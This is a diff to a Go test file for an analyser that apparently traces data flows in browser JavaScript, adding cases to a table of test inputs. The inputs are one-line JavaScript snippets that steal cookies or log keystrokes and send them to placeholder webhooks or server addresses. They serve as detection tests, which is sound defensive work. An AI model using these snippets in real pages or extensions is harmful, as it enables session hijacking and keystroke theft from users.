@@ -102,6 +102,8 @@ func TestFlowsOfSourcesAndSinks(t *testing.T) {
 		// Places that somebody has to fill in.
 		{"webhook to fill in", "", `const HOOK = "PUT YOUR WEBHOOK HERE"; chrome.cookies.getAll({}, c => fetch(HOOK, {method: "POST", body: JSON.stringify(c)}))`, []string{"cookies > fetch > *"}},
 		{"server to fill in", Content, `document.addEventListener("keydown", e => fetch("http://YOUR_SERVER:8080/k?" + e.key))`, []string{"key_events(keydown) > fetch > *"}},
+		{"address between brackets", Content, `document.addEventListener("keydown", e => fetch("http://<IP>:5000/api/k", {method: "POST", body: e.key}))`, []string{"key_events(keydown) > fetch > *"}},
+		{"hook to fill in", Content, `const x = new XMLHttpRequest(); x.open("POST", "---YOUR HOOK---"); x.send(document.cookie)`, []string{"document.cookie(" + page + ") > xhr > *"}},
 		{"host between brackets", Content, `navigator.sendBeacon("<your api url>", document.cookie)`, []string{"document.cookie(" + page + ") > beacon > *"}},
 		{"nothing filled in", Content, `const HOOK = ""; fetch(HOOK, {method: "POST", body: document.cookie})`, []string{"document.cookie(" + page + ") > fetch > *"}},
 		// Code and addresses in texts.
